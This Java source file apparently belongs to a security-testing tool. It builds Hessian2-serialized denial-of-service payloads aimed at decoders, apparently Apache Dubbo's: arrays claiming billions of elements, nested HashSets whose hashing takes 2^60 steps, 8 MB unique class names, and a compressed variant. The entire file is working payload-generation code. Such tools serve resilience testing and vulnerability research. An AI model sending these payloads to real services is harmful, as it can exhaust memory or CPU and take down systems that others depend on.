// SPDX-FileCopyrightText: the Highway SDK authors
// SPDX-License-Identifier: Apache-2.0
package io.highway.tools.security.memory;

import com.alibaba.com.caucho.hessian.io.Hessian2Output;
import io.highway.tools.security.memory.Body.Writing;
import java.io.IOException;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.jspecify.annotations.Nullable;

/** A value that is dangerous to decode. All but {@link #EVENT} are behind a {@link Trap}. */
enum Payload {
    TRAP(out -> out.writeString("tea")),

    /** An array that claims more elements than there is memory. */
    ARRAY(Payload::array),

    /** The same in a field of an exception. */
    EXCEPTION(Payload::exception),

    /** Their hash codes take 2^60 steps. */
    SETS(out -> out.writeObject(sets())),

    /** They are a key of a map. */
    KEYS(Payload::keys),

    /** A class name of 8 MB, each time another one. */
    NAME(Payload::name),

    /** The same, compressed; not over the Dubbo protocol. */
    ZSTD(Payload::name),

    /** An array in 11 bytes: what Dubbo reads of an event. */
    EVENT(Payload::array);

    private static final int LEVELS = 60;
    private static final int NAME_LENGTH = 8_000_000;
    private static final int MOST_NAMES = 20;

    @SuppressWarnings("ImmutableEnumChecker") // its functions have no state
    private final Writing value;

    Payload(Writing value) {
        this.value = value;
    }

    /** How many of them are sent at most at a time. */
    int most(int requests) {
        return isUnique() ? Math.min(requests, MOST_NAMES) : requests;
    }

    /** Whether no two requests have the same. */
    boolean isUnique() {
        return this == NAME || this == ZSTD;
    }

    void to(Hessian2Output out) throws IOException {
        if (this != EVENT) {
            begin(out, 2, null);
            out.writeObject(new Trap());
        }
        value.to(out);
    }

    /** Also counts it, as a reader does, for references to what follows. */
    static void begin(Hessian2Output out, int length, @Nullable String type) throws IOException {
        out.writeListBegin(length, type);
        out.addRef(new Object());
    }

    private static void array(Hessian2Output out) throws IOException {
        begin(out, Integer.MAX_VALUE, "[int");
    }

    private static void exception(Hessian2Output out) throws IOException {
        String type = RuntimeException.class.getName();
        out.writeObjectBegin(type);
        out.writeClassFieldLength(1);
        out.writeString("x"); // of any type
        out.writeObjectBegin(type);
        array(out);
    }

    private static Set<Object> sets() {
        Set<Object> all = new HashSet<>();
        Set<Object> one = all;
        Set<Object> other = new HashSet<>();
        for (int level = 0; level < LEVELS; level++) {
            Set<Object> left = new HashSet<>(List.of("left"));
            Set<Object> right = new HashSet<>();
            for (Set<Object> each : List.of(one, other)) { // while the hash codes of the two are cheap
                each.add(left);
                each.add(right);
            }
            one = left;
            other = right;
        }
        return all;
    }

    private static void keys(Hessian2Output out) throws IOException {
        out.writeMapBegin(null);
        out.addRef(new Object());
        out.writeObject(sets());
        out.writeString("value");
        out.writeMapEnd();
    }

    private static void name(Hessian2Output out) throws IOException {
        String type = System.nanoTime() + "x".repeat(NAME_LENGTH);
        out.writeObjectBegin(type);
        out.writeClassFieldLength(0);
        out.writeObjectBegin(type);
    }
}
